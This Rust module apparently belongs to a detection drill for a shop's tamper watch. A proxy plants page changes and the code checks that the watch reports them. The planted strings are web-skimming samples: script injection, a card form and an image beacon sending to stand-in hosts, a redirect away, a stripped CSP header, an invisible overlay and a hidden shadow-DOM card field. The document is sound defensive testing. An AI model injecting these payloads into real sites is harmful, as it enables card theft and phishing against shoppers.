//! Pages changed in front of the gate, by a proxy of somebody's own: the gate cannot see it, and the watch must.
//!
//! The watch's looks and walks are sent through the proxy by the program's own command.

use crate::{
    Way,
    between::until,
    case::Outcome,
    customer::{COMPUTER, Customer, TELEPHONE},
    house::House,
    proxy::{Change, Proxy},
};
use anyhow::{Context, Result, ensure};
use jiff::Timestamp;
use serde_json::Value;
use std::{
    net::{Ipv4Addr, SocketAddr},
    process::Command,
    time::{Duration, Instant},
};

/// Two rounds see every kind of page.
const ROUNDS: &str = "2";
/// So many rounds look sixty times at pages.
const ROUNDS_OF_SIXTY: &str = "12";
/// How long customers' reports may take.
const REPORTED_WITHIN: Duration = Duration::from_secs(20);

const SCRIPT: Change =
    Change::Page("</body>", "<script src=\"https://dozo-drill.example/x.js\"></script></body>");
/// The page forbids nothing any more.
const OPEN: Change = Change::NoHeader("content-security-policy");

pub(crate) const WAYS: &[Way] = &[
    Way {
        name: "front-headers",
        plants: "security headers taken off by a proxy in front of the gate",
        rob: |house| plain(house, &[OPEN], ROUNDS, "header_weak"),
    },
    Way {
        name: "front-script",
        plants: "other bytes in the shop's script, by a proxy in front of the gate",
        rob: |house| plain(house, &[Change::Script("/*dozo-drill*/")], ROUNDS, "file_changed"),
    },
    Way {
        name: "front-form",
        plants: "a form that asks for a card, by a proxy in front of the gate",
        rob: |house| {
            let form = "<form action=\"https://dozo-drill.example/\"><input name=\"number\"></form></main>";
            plain(house, &[Change::Page("</main>", form)], ROUNDS, "page_changed")
        },
    },
    Way {
        name: "front-redirect",
        plants: "a redirect out of the shop, by a proxy in front of the gate",
        rob: |house| {
            let away = Change::Header("location: /", "location: https://dozo-drill.example/");
            plain(house, &[away], ROUNDS, "redirect_elsewhere")
        },
    },
    Way {
        name: "front-twentieth",
        plants: "a script for one visitor in twenty, by a proxy in front of the gate",
        rob: |house| {
            let Change::Page(from, to) = SCRIPT else { return Ok(Outcome::untried("no change")) };
            plain(house, &[Change::OneInTwenty(from, to)], ROUNDS_OF_SIXTY, "page_changed")
        },
    },
    Way {
        name: "front-address",
        plants: "a script for everybody but the watch, by a proxy that knows its address",
        rob: reported,
    },
    Way {
        name: "browser-overlay",
        plants: "a layer over the button, by a proxy in front of the gate",
        rob: |house| {
            let layer =
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;opacity:0\"></div></body>";
            walked(house, &[OPEN, Change::Page("</body>", layer)], "covered")
        },
    },
    Way {
        name: "browser-field",
        plants: "a field for a card that a script builds where no HTML shows it, by a proxy in front of the gate",
        rob: |house| {
            let field = "<script>let d=document.createElement('div');document.body.append(d);d.attachShadow({mode:'closed'}).innerHTML='<input name=dozo-drill>'</script></body>";
            walked(house, &[OPEN, Change::Page("</body>", field)], "field")
        },
    },
    Way {
        name: "browser-collector",
        plants: "a script that sends to another host, by a proxy in front of the gate",
        rob: |house| {
            let sends = "<script>new Image().src='http://dozo-drill.localhost:9/'</script></body>";
            walked(house, &[OPEN, Change::Page("</body>", sends)], "request")
        },
    },
];

fn port(house: &House) -> Result<u16> {
    let port = house.shop().rsplit(':').next().and_then(|port| port.trim_end_matches('/').parse().ok());
    port.context("the shop's address has no port")
}

/// The watch's looks, through the proxy.
fn plain(house: &House, changes: &[Change], rounds: &str, what: &str) -> Result<Outcome> {
    let proxy = Proxy::start(SocketAddr::from((Ipv4Addr::LOCALHOST, 0)), port(house)?)?;
    proxy.set(changes);
    let planted = Instant::now();
    let looks = Command::new(house.program())
        .args(["watch", "look", "--json", "--rounds", rounds, "--shop", &proxy.origin, "--data"])
        .arg(house.data())
        .output()
        .context("the watch does not look")?;
    let found = String::from_utf8_lossy(&looks.stdout);
    let found = found.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok());
    let mine = found.filter(|case| case["finding"]["what"] == what);
    let first = mine.min_by_key(|case| case["after_ms"].as_u64());
    ensure!(proxy.changed() > 0, "there was nothing to change");
    let sent = u32::try_from(proxy.changed()).unwrap_or(u32::MAX);
    Ok(match first {
        Some(case) => Outcome {
            after_ms: case["after_ms"].as_u64(),
            pages_sent: sent,
            ..Outcome::noticed("watch", what, planted)
        },
        None => Outcome { pages_sent: sent, ..Outcome::missed("the watch says nothing") },
    })
}

/// The watch's browser, through the proxy: one walk by the program's own command, its browser's start among it. In the shop
/// a walk begins every fifteen seconds.
fn walked(house: &House, changes: &[Change], kind: &str) -> Result<Outcome> {
    let walks = house.watch_says("browser");
    if !walks.is_some_and(|word| word == "walks" || word == "unsandboxed") {
        return Ok(Outcome::untried("the watch has no browser here: install chromium"));
    }
    let proxy = Proxy::start(SocketAddr::from((Ipv4Addr::LOCALHOST, 0)), port(house)?)?;
    proxy.set(changes);
    let planted = Instant::now();
    let walk = Command::new(house.program())
        .args(["watch", "look", "--browser", "--json", "--rounds", "1", "--shop", &proxy.origin, "--data"])
        .arg(house.data())
        .output()
        .context("the watch does not walk")?;
    let seen = String::from_utf8_lossy(&walk.stdout);
    let mut seen = seen.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok());
    let outcome = match seen.find(|line| line["seen"]["kind"] == kind) {
        Some(line) => {
            let page = line["seen"]["page"].as_str().unwrap_or_default().to_owned();
            Outcome::noticed(
                "watch's browser",
                &format!("{kind} on the page {page}, which closes payment"),
                planted,
            )
        }
        None => Outcome::missed("the watch says nothing"),
    };
    ensure!(proxy.changed() > 0, "there was nothing to change");
    Ok(Outcome { pages_sent: u32::try_from(proxy.changed()).unwrap_or(u32::MAX), ..outcome })
}

/// Three customers' browsers report what their page's policy forbade.
fn reported(house: &House) -> Result<Outcome> {
    let (since, planted) = (Timestamp::now(), Instant::now());
    let report = "{\"csp-report\":{\"effective-directive\":\"script-src-elem\",\"blocked-uri\":\"https://dozo-drill.example/x.js\"}}";
    for n in 1..=3 {
        let mut customer = Customer::new(100 + n, if n == 2 { TELEPHONE } else { COMPUTER });
        let url = format!("{}/gate/reports", house.shop());
        let answer = customer.post_as(&url, "application/csp-report", report.as_bytes())?;
        ensure!(answer.status == 204, "the gate takes no report: {}", answer.status);
    }
    let mut found = None;
    until(REPORTED_WITHIN, || {
        found = house.found_since(since, |case| case["what"] == "reported");
        found.is_some()
    });
    Ok(match found {
        Some(title) => {
            Outcome { pages_sent: 3, ..Outcome::noticed("customers' own browsers", &title, planted) }
        }
        None => Outcome::missed("the watch says nothing"),
    })
}
